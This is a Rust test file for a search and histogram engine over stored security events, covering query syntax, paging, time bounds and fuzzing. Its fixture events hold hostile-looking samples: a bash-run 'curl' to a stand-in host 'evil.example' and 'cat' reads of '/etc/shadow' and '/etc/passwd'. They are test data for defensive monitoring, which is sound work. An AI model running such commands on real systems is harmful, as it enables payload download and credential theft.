//! What is found, in which order, and what is counted.

use super::*;
use proptest::prelude::*;

fn found(store: &EventStore, text: &str) -> Vec<u64> {
    numbers(store, &Query { text: text.to_owned(), ..everything() })
}

#[test]
fn the_language_of_queries_finds_what_it_says() {
    let directory = tempfile::tempdir().unwrap();
    let store = EventStore::open(directory.path(), settings()).unwrap();
    let of = |number: u64, kind: &str, program: &str, message: &str, fields: &[(&str, &str)]| StoredEvent {
        kind: kind.to_owned(),
        program: Some(program.to_owned()),
        message: message.to_owned(),
        fields: fields.iter().map(|(n, v)| ((*n).to_owned(), (*v).to_owned())).collect(),
        ..event(number)
    };
    let given = [
        of(
            1,
            "execve",
            "Bash",
            "bash ran curl -s http://evil.example/x",
            &[("proc.name", "Bash"), ("proc.cmdline", "bash -c curl")],
        ),
        of(
            2,
            "connect",
            "curl",
            "curl connected to 10.0.0.5:443",
            &[("fd.sip", "10.0.0.5"), ("fd.name", "10.1.1.1:5->10.0.0.5:443")],
        ),
        of(3, "open", "cat", "cat opened /etc/shadow", &[("fd.name", "/etc/shadow"), ("proc.name", "cat")]),
        of(4, "open", "cat", "cat opened /etc/passwd", &[("fd.name", "/etc/passwd"), ("proc.name", "cat")]),
        StoredEvent {
            priority: Some("critical".into()),
            workload: None,
            ..of(
                5,
                "alert",
                "sh",
                "Shell in a container",
                &[("rule", "Terminal shell"), ("long", &"x".repeat(100))],
            )
        },
    ];
    store.append(NOW, &given).unwrap();
    store.flush().unwrap();
    let cases: [(&str, &[u64]); 43] = [
        ("", &[5, 4, 3, 2, 1]),
        ("curl", &[2, 1]),
        ("CURL", &[2, 1]),
        ("curl evil", &[1]),
        ("curl OR cat", &[4, 3, 2, 1]),
        ("cat -passwd", &[3]),
        ("NOT cat", &[5, 2, 1]),
        ("-cat -curl", &[5]),
        ("(cat shadow) OR (curl NOT evil)", &[3, 2]),
        ("\"ran curl\"", &[1]),
        ("\"curl ran\"", &[]),
        ("http://evil.example/x", &[1]),
        ("10.0.0.5", &[2]),
        ("10.0.0.5:443", &[2]),
        ("10.0.0", &[2]),
        ("10.0.0.4", &[]),
        ("/etc/shadow", &[3]),
        ("/etc", &[4, 3]),
        ("etc/shadow", &[3]),
        ("fd.name:/etc/shadow", &[3]),
        ("/etc/pass*", &[4]),
        ("etc/pass*", &[4]),
        ("shad*", &[3]),
        ("kind:open", &[4, 3]),
        ("kind=open", &[4, 3]),
        ("kind=Open", &[]),
        ("kind:OPEN", &[4, 3]),
        ("workload:web", &[4, 3, 2, 1]),
        ("workload=web", &[]),
        ("workload:default/deployment/web", &[4, 3, 2, 1]),
        ("proc.name:bash", &[1]),
        ("proc.name=bash", &[]),
        ("proc.name=Bash", &[1]),
        ("proc.name:ba*", &[1]),
        ("proc.cmdline:\"bash -c\"", &[1]),
        ("proc.cmdline:\"c bash\"", &[]),
        ("fd.name:10.0.0.5", &[2]),
        ("fd.sip:*", &[2]),
        ("rule:shell", &[5]),
        ("rule=\"Terminal shell\"", &[5]),
        ("message:container", &[5]),
        ("priority:critical node:n1 source:n1", &[5]),
        (&format!("long={}", "x".repeat(100)), &[5]),
    ];
    for (text, expected) in cases {
        assert_eq!(found(&store, text), expected, "{text}");
    }
    let filter = |pairs: &[(&str, &str)]| {
        let filters = pairs.iter().map(|(n, v)| ((*n).to_owned(), (*v).to_owned())).collect();
        numbers(&store, &Query { filters, ..everything() })
    };
    assert_eq!(filter(&[("kind", "open")]), [4, 3]);
    assert_eq!(filter(&[("kind", "open"), ("kind", "alert")]), [5, 4, 3]);
    assert_eq!(filter(&[("kind", "open"), ("fd.name", "/etc/shadow")]), [3]);
    assert_eq!(filter(&[("kind", "nothing")]), [0; 0]);
    let wrong = store.search(&Query { text: "a (".into(), ..everything() }).unwrap_err();
    assert_eq!(wrong.to_string(), "at character 4 of the query: a word is missing here");
}

#[test]
fn pages_follow_each_other_while_events_come() {
    let directory = tempfile::tempdir().unwrap();
    let small = Settings { split_events: 20, ..settings() };
    let store = EventStore::open(directory.path(), small).unwrap();
    // Many of the same time.
    let at = |e: StoredEvent| StoredEvent { time: NOW + Millis::try_from(e.number / 7).unwrap(), ..e };
    for n in 0..5 {
        let given: Vec<_> = events(n * 20 + 1..n * 20 + 21).into_iter().map(at).collect();
        store.append(NOW, &given).unwrap();
        store.flush().unwrap();
    }
    let mut query = Query { limit: 9, ..Query::default() };
    let mut seen = Vec::new();
    for page in 0_u64.. {
        let found = store.search(&query).unwrap();
        assert_eq!(found.total, 100 + page);
        seen.extend(found.items.iter().map(|e| e.id.rsplit('/').next().unwrap().parse::<u64>().unwrap()));
        store.append(NOW, &[StoredEvent { time: NOW + HOUR / 10, ..event(101 + page) }]).unwrap();
        store.flush().unwrap();
        query.cursor = found.next;
        if query.cursor.is_none() {
            break;
        }
    }
    assert_eq!(seen, descending(1..101));
}

#[test]
fn time_bounds_are_kept_within_a_split_and_over_many() {
    let directory = tempfile::tempdir().unwrap();
    let store = EventStore::open(directory.path(), Settings { split_events: 10, ..settings() }).unwrap();
    for n in 0..3 {
        store.append(NOW, &events(n * 10 + 1..n * 10 + 11)).unwrap();
        store.flush().unwrap();
    }
    for (from, to) in [(5, 25), (1, 11), (12, 13), (20, 20), (25, 100)] {
        let time = |n: u64| Some(NOW + Millis::try_from(n).unwrap());
        let query = Query { from: time(from), to: time(to), ..everything() };
        let expected = from..to.min(31);
        assert_eq!(numbers(&store, &query), descending(expected.clone()), "{from} to {to}");
        let worded = Query { text: "curl".into(), ..query.clone() };
        assert_eq!(numbers(&store, &worded), descending(expected.clone()));
        let histogram = store.histogram(&query, 5).unwrap();
        let counted = histogram.buckets.iter().map(|b| b.count).sum::<u64>();
        assert_eq!(counted, expected.end.saturating_sub(expected.start), "{from} to {to}");
        assert_eq!(store.search(&Query { limit: 1, ..query }).unwrap().total, counted);
    }
}

#[test]
fn a_histogram_counts_over_splits_and_has_empty_buckets() {
    let directory = tempfile::tempdir().unwrap();
    let store = EventStore::open(directory.path(), Settings { split_events: 10, ..settings() }).unwrap();
    for n in 0..4_u64 {
        let given: Vec<_> = events(n * 10 + 1..n * 10 + 11)
            .into_iter()
            .map(|e| StoredEvent {
                time: NOW + Millis::try_from(e.number % 3).unwrap() * 60_000,
                kind: if e.number % 4 == 0 { "connect".into() } else { "execve".into() },
                program: (e.number % 2 == 0).then(|| format!("p{}", e.number)),
                ..e
            })
            .collect();
        store.append(NOW, &given).unwrap();
        store.flush().unwrap();
    }
    let query = Query { from: Some(NOW - 60_000), to: Some(NOW + 240_000), ..everything() };
    let histogram = store.histogram(&query, 5).unwrap();
    assert_eq!(histogram.step, 60_000);
    let counts: Vec<_> = histogram.buckets.iter().map(|b| b.count).collect();
    assert_eq!(counts, [0, 13, 14, 13, 0, 0]);
    assert_eq!(histogram.buckets[0].time, (NOW - 60_000) / 60_000 * 60_000);
    assert_eq!(histogram.top["kind"], [("execve".to_owned(), 30), ("connect".to_owned(), 10)]);
    assert_eq!(histogram.top["program"].len(), 10);
    assert_eq!(histogram.top["rule"], []);
    let some = store.histogram(&Query { text: "kind:connect".into(), ..query }, 5).unwrap();
    assert_eq!(some.top["kind"], [("connect".to_owned(), 10)]);
    let none = store.histogram(&Query { text: "nothing".into(), ..everything() }, 5).unwrap();
    assert_eq!(none.buckets.iter().map(|b| b.count).sum::<u64>(), 0);
}

#[test]
fn who_hands_over_gets_every_event_once_in_the_order_in_which_they_came() {
    let directory = tempfile::tempdir().unwrap();
    let store = EventStore::open(directory.path(), Settings { split_events: 20, ..settings() }).unwrap();
    let (mut from, mut seen) = (0, Vec::new());
    for n in 0..4 {
        let given: Vec<_> = events(n * 25 + 1..n * 25 + 26)
            .into_iter()
            .map(|e| StoredEvent { time: if e.number % 3 == 0 { NOW - 5 * HOUR } else { NOW }, ..e })
            .collect();
        store.append(NOW, &given).unwrap();
        store.flush().unwrap();
        // Never all of it, so that there is a rest for the next time.
        let arrived = store.arrived(from, 20);
        assert_eq!((arrived.events.len(), arrived.unsearched.len()), (20, 0));
        seen.extend(arrived.events);
        from = arrived.next;
    }
    let rest = store.arrived(from, 1000);
    seen.extend(rest.events);
    let seen: Vec<u64> = seen.iter().map(|e| e.id.rsplit('/').next().unwrap().parse().unwrap()).collect();
    assert_eq!(seen, (1..=100).collect::<Vec<_>>());
    let nothing = store.arrived(rest.next, 10);
    assert_eq!((nothing.events.len(), nothing.next), (0, 100));
}

#[test]
fn a_search_that_takes_too_long_says_what_it_left_out() {
    let directory = tempfile::tempdir().unwrap();
    let hasty = Settings { search_time: Duration::ZERO, ..settings() };
    let store = EventStore::open(directory.path(), hasty).unwrap();
    store.append(NOW, &events(1..3)).unwrap();
    store.flush().unwrap();
    let page = store.search(&everything()).unwrap();
    assert_eq!((page.items.len(), page.unsearched.len()), (0, 1));
    assert!(page.unsearched[0].why.contains("longer than"), "{:?}", page.unsearched);
}

#[test]
fn sealed_splits_answer_from_what_they_answered_before() {
    let directory = tempfile::tempdir().unwrap();
    let store =
        EventStore::open(directory.path(), Settings { split_events: 10, open_splits: 1, ..settings() })
            .unwrap();
    for n in 0..4 {
        store.append(NOW, &events(n * 10 + 1..n * 10 + 11)).unwrap();
        store.flush().unwrap();
        sealed(&store, n + 1);
    }
    let query = Query { text: "curl".into(), limit: 3, ..Query::default() };
    let (page, histogram) = (store.search(&query).unwrap(), store.histogram(&query, 7).unwrap());
    assert_eq!((page.total, histogram.buckets.iter().map(|b| b.count).sum::<u64>()), (40, 40));
    // The splits are closed meanwhile: only one stays open.
    assert_eq!(store.search(&query).unwrap(), page);
    assert_eq!(store.histogram(&query, 7).unwrap(), histogram);
    store.append(NOW, &events(41..44)).unwrap();
    store.flush().unwrap();
    assert_eq!(store.search(&query).unwrap().total, 43);
    let other = Query { text: "curl -pid".into(), ..query };
    assert_eq!(store.search(&other).unwrap().total, 43);
}

#[test]
fn an_empty_store_answers() {
    let directory = tempfile::tempdir().unwrap();
    let store = EventStore::open(directory.path(), settings()).unwrap();
    store.flush().unwrap();
    let page = store.search(&everything()).unwrap();
    assert_eq!((page.items.len(), page.total, page.next), (0, 0, None));
    assert_eq!(store.histogram(&everything(), 10).unwrap().buckets.iter().map(|b| b.count).sum::<u64>(), 0);
    assert_eq!(store.sweep(NOW).unwrap(), Swept::default());
}

proptest! {
    #![proptest_config(ProptestConfig { cases: 8, ..ProptestConfig::default() })]
    #[test]
    fn no_event_and_no_query_is_too_much(
        texts in proptest::collection::vec("\\PC*|[\\x00-\\x20a-z:=.\"*]*", 1..12),
        query in proptest::collection::vec("\\PC*|[a-z:=.\"*( )-]*", 20),
    ) {
        let directory = tempfile::tempdir().unwrap();
        let store = EventStore::open(directory.path(), settings()).unwrap();
        let given: Vec<_> = texts.iter().zip(1..).map(|(text, number)| StoredEvent {
            number,
            message: text.clone(),
            kind: text.clone(),
            fields: BTreeMap::from([(text.clone(), text.clone()), ("name".into(), text.clone())]),
            ..event(number)
        }).collect();
        store.append(NOW, &given).unwrap();
        store.flush().unwrap();
        for text in query {
            let _ = store.search(&Query { text, ..everything() }).map(|page| assert_eq!(page.unsearched, []));
        }
        for text in &texts {
            let exact = Query { filters: vec![("name".into(), text.clone())], ..everything() };
            prop_assert!(store.search(&exact).unwrap().total >= 1, "{text:?}");
        }
    }
}
